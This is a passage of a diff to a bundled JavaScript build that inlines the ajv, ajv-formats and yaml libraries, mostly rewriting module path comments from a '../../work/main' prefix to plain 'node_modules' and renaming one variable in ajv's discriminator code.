@@ -6394,9 +6394,9 @@ var require_if = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/thenElse.js
+// node_modules/ajv/dist/vocabularies/applicator/thenElse.js
 var require_thenElse = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/thenElse.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/thenElse.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var util_1 = require_util();
@@ -6412,9 +6412,9 @@ var require_thenElse = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/index.js
+// node_modules/ajv/dist/vocabularies/applicator/index.js
 var require_applicator = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/index.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var additionalItems_1 = require_additionalItems();
@@ -6460,9 +6460,9 @@ var require_applicator = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/format/format.js
+// node_modules/ajv/dist/vocabularies/format/format.js
 var require_format = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/format/format.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/format/format.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -6550,9 +6550,9 @@ var require_format = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/format/index.js
+// node_modules/ajv/dist/vocabularies/format/index.js
 var require_format2 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/format/index.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/format/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var format_1 = require_format();
@@ -6561,9 +6561,9 @@ var require_format2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/metadata.js
+// node_modules/ajv/dist/vocabularies/metadata.js
 var require_metadata = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/metadata.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/metadata.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.contentVocabulary = exports.metadataVocabulary = void 0;
@@ -6584,9 +6584,9 @@ var require_metadata = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/draft7.js
+// node_modules/ajv/dist/vocabularies/draft7.js
 var require_draft7 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/draft7.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/draft7.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var core_1 = require_core2();
@@ -6606,9 +6606,9 @@ var require_draft7 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/discriminator/types.js
+// node_modules/ajv/dist/vocabularies/discriminator/types.js
 var require_types = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/discriminator/types.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/discriminator/types.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.DiscrError = void 0;
@@ -6620,9 +6620,9 @@ var require_types = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/discriminator/index.js
+// node_modules/ajv/dist/vocabularies/discriminator/index.js
 var require_discriminator = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/discriminator/index.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/discriminator/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -6641,7 +6641,7 @@ var require_discriminator = __commonJS({
       error,
       code(cxt) {
         const { gen, data, schema, parentSchema, it } = cxt;
-        const { oneOf } = parentSchema;
+        const { oneOf: oneOf2 } = parentSchema;
         if (!it.opts.discriminator) {
           throw new Error("discriminator: requires discriminator option");
         }
@@ -6650,7 +6650,7 @@ var require_discriminator = __commonJS({
           throw new Error("discriminator: requires propertyName");
         if (schema.mapping)
           throw new Error("discriminator: mapping is not supported");
-        if (!oneOf)
+        if (!oneOf2)
           throw new Error("discriminator: requires oneOf keyword");
         const valid = gen.let("valid", false);
         const tag = gen.const("tag", (0, codegen_1._)`${data}${(0, codegen_1.getProperty)(tagName)}`);
@@ -6678,8 +6678,8 @@ var require_discriminator = __commonJS({
           const oneOfMapping = {};
           const topRequired = hasRequired(parentSchema);
           let tagRequired = true;
-          for (let i2 = 0; i2 < oneOf.length; i2++) {
-            let sch = oneOf[i2];
+          for (let i2 = 0; i2 < oneOf2.length; i2++) {
+            let sch = oneOf2[i2];
             if ((sch === null || sch === void 0 ? void 0 : sch.$ref) && !(0, util_1.schemaHasRulesButRef)(sch, it.self.RULES)) {
               const ref = sch.$ref;
               sch = compile_1.resolveRef.call(it.self, it.schemaEnv.root, it.baseId, ref);
@@ -6725,9 +6725,9 @@ var require_discriminator = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-draft-07.json
+// node_modules/ajv/dist/refs/json-schema-draft-07.json
 var require_json_schema_draft_07 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-draft-07.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-draft-07.json"(exports, module2) {
     module2.exports = {
       $schema: "http://json-schema.org/draft-07/schema#",
       $id: "http://json-schema.org/draft-07/schema#",
@@ -6882,9 +6882,9 @@ var require_json_schema_draft_07 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/ajv.js
+// node_modules/ajv/dist/ajv.js
 var require_ajv = __commonJS({
-  "../../work/main/node_modules/ajv/dist/ajv.js"(exports, module2) {
+  "node_modules/ajv/dist/ajv.js"(exports, module2) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.MissingRefError = exports.ValidationError = exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = exports.Ajv = void 0;
@@ -6952,9 +6952,9 @@ var require_ajv = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/dynamic/dynamicAnchor.js
+// node_modules/ajv/dist/vocabularies/dynamic/dynamicAnchor.js
 var require_dynamicAnchor = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/dynamic/dynamicAnchor.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/dynamic/dynamicAnchor.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.dynamicAnchor = void 0;
@@ -6987,9 +6987,9 @@ var require_dynamicAnchor = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/dynamic/dynamicRef.js
+// node_modules/ajv/dist/vocabularies/dynamic/dynamicRef.js
 var require_dynamicRef = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/dynamic/dynamicRef.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/dynamic/dynamicRef.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.dynamicRef = void 0;
@@ -7033,9 +7033,9 @@ var require_dynamicRef = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/dynamic/recursiveAnchor.js
+// node_modules/ajv/dist/vocabularies/dynamic/recursiveAnchor.js
 var require_recursiveAnchor = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/dynamic/recursiveAnchor.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/dynamic/recursiveAnchor.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var dynamicAnchor_1 = require_dynamicAnchor();
@@ -7054,9 +7054,9 @@ var require_recursiveAnchor = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/dynamic/recursiveRef.js
+// node_modules/ajv/dist/vocabularies/dynamic/recursiveRef.js
 var require_recursiveRef = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/dynamic/recursiveRef.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/dynamic/recursiveRef.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var dynamicRef_1 = require_dynamicRef();
@@ -7069,9 +7069,9 @@ var require_recursiveRef = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/dynamic/index.js
+// node_modules/ajv/dist/vocabularies/dynamic/index.js
 var require_dynamic = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/dynamic/index.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/dynamic/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var dynamicAnchor_1 = require_dynamicAnchor();
@@ -7083,9 +7083,9 @@ var require_dynamic = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/dependentRequired.js
+// node_modules/ajv/dist/vocabularies/validation/dependentRequired.js
 var require_dependentRequired = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/dependentRequired.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/dependentRequired.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var dependencies_1 = require_dependencies();
@@ -7100,9 +7100,9 @@ var require_dependentRequired = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/dependentSchemas.js
+// node_modules/ajv/dist/vocabularies/applicator/dependentSchemas.js
 var require_dependentSchemas = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/dependentSchemas.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/dependentSchemas.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var dependencies_1 = require_dependencies();
@@ -7116,9 +7116,9 @@ var require_dependentSchemas = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/limitContains.js
+// node_modules/ajv/dist/vocabularies/validation/limitContains.js
 var require_limitContains = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/limitContains.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/limitContains.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var util_1 = require_util();
@@ -7136,9 +7136,9 @@ var require_limitContains = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/next.js
+// node_modules/ajv/dist/vocabularies/next.js
 var require_next = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/next.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/next.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var dependentRequired_1 = require_dependentRequired();
@@ -7149,9 +7149,9 @@ var require_next = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedProperties.js
+// node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedProperties.js
 var require_unevaluatedProperties = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedProperties.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedProperties.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -7215,9 +7215,9 @@ var require_unevaluatedProperties = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedItems.js
+// node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedItems.js
 var require_unevaluatedItems = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedItems.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/unevaluated/unevaluatedItems.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -7259,9 +7259,9 @@ var require_unevaluatedItems = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/unevaluated/index.js
+// node_modules/ajv/dist/vocabularies/unevaluated/index.js
 var require_unevaluated = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/unevaluated/index.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/unevaluated/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var unevaluatedProperties_1 = require_unevaluatedProperties();
@@ -7271,9 +7271,9 @@ var require_unevaluated = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/draft2020.js
+// node_modules/ajv/dist/vocabularies/draft2020.js
 var require_draft2020 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/draft2020.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/draft2020.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var core_1 = require_core2();
@@ -7299,9 +7299,9 @@ var require_draft2020 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/schema.json
+// node_modules/ajv/dist/refs/json-schema-2020-12/schema.json
 var require_schema = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/schema.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/schema.json"(exports, module2) {
     module2.exports = {
       $schema: "https://json-schema.org/draft/2020-12/schema",
       $id: "https://json-schema.org/draft/2020-12/schema",
@@ -7359,9 +7359,9 @@ var require_schema = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/applicator.json
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/applicator.json
 var require_applicator2 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/applicator.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/applicator.json"(exports, module2) {
     module2.exports = {
       $schema: "https://json-schema.org/draft/2020-12/schema",
       $id: "https://json-schema.org/draft/2020-12/meta/applicator",
@@ -7412,9 +7412,9 @@ var require_applicator2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/unevaluated.json
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/unevaluated.json
 var require_unevaluated2 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/unevaluated.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/unevaluated.json"(exports, module2) {
     module2.exports = {
       $schema: "https://json-schema.org/draft/2020-12/schema",
       $id: "https://json-schema.org/draft/2020-12/meta/unevaluated",
@@ -7432,9 +7432,9 @@ var require_unevaluated2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/content.json
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/content.json
 var require_content = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/content.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/content.json"(exports, module2) {
     module2.exports = {
       $schema: "https://json-schema.org/draft/2020-12/schema",
       $id: "https://json-schema.org/draft/2020-12/meta/content",
@@ -7453,9 +7453,9 @@ var require_content = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/core.json
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/core.json
 var require_core3 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/core.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/core.json"(exports, module2) {
     module2.exports = {
       $schema: "https://json-schema.org/draft/2020-12/schema",
       $id: "https://json-schema.org/draft/2020-12/meta/core",
@@ -7509,9 +7509,9 @@ var require_core3 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/format-annotation.json
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/format-annotation.json
 var require_format_annotation = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/format-annotation.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/format-annotation.json"(exports, module2) {
     module2.exports = {
       $schema: "https://json-schema.org/draft/2020-12/schema",
       $id: "https://json-schema.org/draft/2020-12/meta/format-annotation",
@@ -7528,9 +7528,9 @@ var require_format_annotation = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/meta-data.json
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/meta-data.json
 var require_meta_data = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/meta-data.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/meta-data.json"(exports, module2) {
     module2.exports = {
       $schema: "https://json-schema.org/draft/2020-12/schema",
       $id: "https://json-schema.org/draft/2020-12/meta/meta-data",
@@ -7569,9 +7569,9 @@ var require_meta_data = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/validation.json
+// node_modules/ajv/dist/refs/json-schema-2020-12/meta/validation.json
 var require_validation2 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/meta/validation.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/meta/validation.json"(exports, module2) {
     module2.exports = {
       $schema: "https://json-schema.org/draft/2020-12/schema",
       $id: "https://json-schema.org/draft/2020-12/meta/validation",
@@ -7664,9 +7664,9 @@ var require_validation2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/index.js
+// node_modules/ajv/dist/refs/json-schema-2020-12/index.js
 var require_json_schema_2020_12 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/json-schema-2020-12/index.js"(exports) {
+  "node_modules/ajv/dist/refs/json-schema-2020-12/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var metaSchema = require_schema();
@@ -7699,9 +7699,9 @@ var require_json_schema_2020_12 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/2020.js
+// node_modules/ajv/dist/2020.js
 var require__ = __commonJS({
-  "../../work/main/node_modules/ajv/dist/2020.js"(exports, module2) {
+  "node_modules/ajv/dist/2020.js"(exports, module2) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.MissingRefError = exports.ValidationError = exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = exports.Ajv2020 = void 0;
@@ -7776,9 +7776,9 @@ var require__ = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv-formats/dist/formats.js
+// node_modules/ajv-formats/dist/formats.js
 var require_formats = __commonJS({
-  "../../work/main/node_modules/ajv-formats/dist/formats.js"(exports) {
+  "node_modules/ajv-formats/dist/formats.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.formatNames = exports.fastFormats = exports.fullFormats = void 0;
@@ -7979,9 +7979,9 @@ var require_formats = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv-formats/dist/limit.js
+// node_modules/ajv-formats/dist/limit.js
 var require_limit = __commonJS({
-  "../../work/main/node_modules/ajv-formats/dist/limit.js"(exports) {
+  "node_modules/ajv-formats/dist/limit.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.formatLimitDefinition = void 0;
@@ -8051,9 +8051,9 @@ var require_limit = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv-formats/dist/index.js
+// node_modules/ajv-formats/dist/index.js
 var require_dist = __commonJS({
-  "../../work/main/node_modules/ajv-formats/dist/index.js"(exports, module2) {
+  "node_modules/ajv-formats/dist/index.js"(exports, module2) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var formats_1 = require_formats();
@@ -8093,9 +8093,9 @@ var require_dist = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/identity.js
+// node_modules/yaml/dist/nodes/identity.js
 var require_identity = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/identity.js"(exports) {
+  "node_modules/yaml/dist/nodes/identity.js"(exports) {
     "use strict";
     var ALIAS = /* @__PURE__ */ Symbol.for("yaml.alias");
     var DOC = /* @__PURE__ */ Symbol.for("yaml.document");
@@ -8150,9 +8150,9 @@ var require_identity = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/visit.js
+// node_modules/yaml/dist/visit.js
 var require_visit = __commonJS({
-  "../../work/main/node_modules/yaml/dist/visit.js"(exports) {
+  "node_modules/yaml/dist/visit.js"(exports) {
     "use strict";
     var identity = require_identity();
     var BREAK = /* @__PURE__ */ Symbol("break visit");
@@ -8308,9 +8308,9 @@ var require_visit = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/doc/directives.js
+// node_modules/yaml/dist/doc/directives.js
 var require_directives = __commonJS({
-  "../../work/main/node_modules/yaml/dist/doc/directives.js"(exports) {
+  "node_modules/yaml/dist/doc/directives.js"(exports) {
     "use strict";
     var identity = require_identity();
     var visit2 = require_visit();
@@ -8479,9 +8479,9 @@ var require_directives = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/doc/anchors.js
+// node_modules/yaml/dist/doc/anchors.js
 var require_anchors = __commonJS({
-  "../../work/main/node_modules/yaml/dist/doc/anchors.js"(exports) {
+  "node_modules/yaml/dist/doc/anchors.js"(exports) {
     "use strict";
     var identity = require_identity();
     var visit2 = require_visit();
@@ -8549,9 +8549,9 @@ var require_anchors = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/doc/applyReviver.js
+// node_modules/yaml/dist/doc/applyReviver.js
 var require_applyReviver = __commonJS({
-  "../../work/main/node_modules/yaml/dist/doc/applyReviver.js"(exports) {
+  "node_modules/yaml/dist/doc/applyReviver.js"(exports) {
     "use strict";
     function applyReviver(reviver, obj, key, val) {
       if (val && typeof val === "object") {
@@ -8599,9 +8599,9 @@ var require_applyReviver = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/toJS.js
+// node_modules/yaml/dist/nodes/toJS.js
 var require_toJS = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/toJS.js"(exports) {
+  "node_modules/yaml/dist/nodes/toJS.js"(exports) {
     "use strict";
     var identity = require_identity();
     function toJS(value, arg2, ctx) {
@@ -8629,9 +8629,9 @@ var require_toJS = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/Node.js
+// node_modules/yaml/dist/nodes/Node.js
 var require_Node = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/Node.js"(exports) {
+  "node_modules/yaml/dist/nodes/Node.js"(exports) {
     "use strict";
     var applyReviver = require_applyReviver();
     var identity = require_identity();
@@ -8670,9 +8670,9 @@ var require_Node = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/Alias.js
+// node_modules/yaml/dist/nodes/Alias.js
 var require_Alias = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/Alias.js"(exports) {
+  "node_modules/yaml/dist/nodes/Alias.js"(exports) {
     "use strict";
     var anchors = require_anchors();
     var visit2 = require_visit();
@@ -8788,9 +8788,9 @@ var require_Alias = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/Scalar.js
+// node_modules/yaml/dist/nodes/Scalar.js
 var require_Scalar = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/Scalar.js"(exports) {
+  "node_modules/yaml/dist/nodes/Scalar.js"(exports) {
     "use strict";
     var identity = require_identity();
     var Node2 = require_Node();
@@ -8818,9 +8818,9 @@ var require_Scalar = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/doc/createNode.js
+// node_modules/yaml/dist/doc/createNode.js
 var require_createNode = __commonJS({
-  "../../work/main/node_modules/yaml/dist/doc/createNode.js"(exports) {
+  "node_modules/yaml/dist/doc/createNode.js"(exports) {
     "use strict";
     var Alias = require_Alias();
     var identity = require_identity();
@@ -8893,9 +8893,9 @@ var require_createNode = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/Collection.js
+// node_modules/yaml/dist/nodes/Collection.js
 var require_Collection = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/Collection.js"(exports) {
+  "node_modules/yaml/dist/nodes/Collection.js"(exports) {
     "use strict";
     var createNode = require_createNode();
     var identity = require_identity();
@@ -9036,9 +9036,9 @@ var require_Collection = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/stringify/stringifyComment.js
+// node_modules/yaml/dist/stringify/stringifyComment.js
 var require_stringifyComment = __commonJS({
-  "../../work/main/node_modules/yaml/dist/stringify/stringifyComment.js"(exports) {
+  "node_modules/yaml/dist/stringify/stringifyComment.js"(exports) {
     "use strict";
     var stringifyComment = (str2) => str2.replace(/^(?!$)(?: $)?/gm, "#");
     function indentComment(comment, indent) {
@@ -9053,9 +9053,9 @@ var require_stringifyComment = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/stringify/foldFlowLines.js
+// node_modules/yaml/dist/stringify/foldFlowLines.js
 var require_foldFlowLines = __commonJS({
-  "../../work/main/node_modules/yaml/dist/stringify/foldFlowLines.js"(exports) {
+  "node_modules/yaml/dist/stringify/foldFlowLines.js"(exports) {
     "use strict";
     var FOLD_FLOW = "flow";
     var FOLD_BLOCK = "block";
@@ -9189,9 +9189,9 @@ ${indent}${text.slice(fold + 1, end2)}`;
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/stringify/stringifyString.js
+// node_modules/yaml/dist/stringify/stringifyString.js
 var require_stringifyString = __commonJS({
-  "../../work/main/node_modules/yaml/dist/stringify/stringifyString.js"(exports) {
+  "node_modules/yaml/dist/stringify/stringifyString.js"(exports) {
     "use strict";
     var Scalar = require_Scalar();
     var foldFlowLines = require_foldFlowLines();
@@ -9472,9 +9472,9 @@ ${indent}`);
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/stringify/stringify.js
+// node_modules/yaml/dist/stringify/stringify.js
 var require_stringify = __commonJS({
-  "../../work/main/node_modules/yaml/dist/stringify/stringify.js"(exports) {
+  "node_modules/yaml/dist/stringify/stringify.js"(exports) {
     "use strict";
     var anchors = require_anchors();
     var identity = require_identity();
@@ -9596,9 +9596,9 @@ ${ctx.indent}${str2}`;
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/stringify/stringifyPair.js
+// node_modules/yaml/dist/stringify/stringifyPair.js
 var require_stringifyPair = __commonJS({
-  "../../work/main/node_modules/yaml/dist/stringify/stringifyPair.js"(exports) {
+  "node_modules/yaml/dist/stringify/stringifyPair.js"(exports) {
     "use strict";
     var identity = require_identity();
     var Scalar = require_Scalar();
@@ -9729,9 +9729,9 @@ ${ctx.indent}`;
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/log.js
+// node_modules/yaml/dist/log.js
 var require_log = __commonJS({
-  "../../work/main/node_modules/yaml/dist/log.js"(exports) {
+  "node_modules/yaml/dist/log.js"(exports) {
     "use strict";
     var node_process = __require("process");
     function debug2(logLevel, ...messages2) {
@@ -9751,9 +9751,9 @@ var require_log = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/schema/yaml-1.1/merge.js
+// node_modules/yaml/dist/schema/yaml-1.1/merge.js
 var require_merge = __commonJS({
-  "../../work/main/node_modules/yaml/dist/schema/yaml-1.1/merge.js"(exports) {
+  "node_modules/yaml/dist/schema/yaml-1.1/merge.js"(exports) {
     "use strict";
     var identity = require_identity();
     var Scalar = require_Scalar();
@@ -9811,9 +9811,9 @@ var require_merge = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/addPairToJSMap.js
+// node_modules/yaml/dist/nodes/addPairToJSMap.js
 var require_addPairToJSMap = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/addPairToJSMap.js"(exports) {
+  "node_modules/yaml/dist/nodes/addPairToJSMap.js"(exports) {
     "use strict";
     var log = require_log();
     var merge = require_merge();
@@ -9875,9 +9875,9 @@ var require_addPairToJSMap = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/Pair.js
+// node_modules/yaml/dist/nodes/Pair.js
 var require_Pair = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/Pair.js"(exports) {
+  "node_modules/yaml/dist/nodes/Pair.js"(exports) {
     "use strict";
     var createNode = require_createNode();
     var stringifyPair = require_stringifyPair();
@@ -9915,9 +9915,9 @@ var require_Pair = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/stringify/stringifyCollection.js
+// node_modules/yaml/dist/stringify/stringifyCollection.js
 var require_stringifyCollection = __commonJS({
-  "../../work/main/node_modules/yaml/dist/stringify/stringifyCollection.js"(exports) {
+  "node_modules/yaml/dist/stringify/stringifyCollection.js"(exports) {
     "use strict";
     var identity = require_identity();
     var stringify = require_stringify();
@@ -10066,9 +10066,9 @@ ${indent}${end}`;
   }
 });
 
-// ../../work/main/node_modules/yaml/dist/nodes/YAMLMap.js
+// node_modules/yaml/dist/nodes/YAMLMap.js
 var require_YAMLMap = __commonJS({
-  "../../work/main/node_modules/yaml/dist/nodes/YAMLMap.js"(exports) {
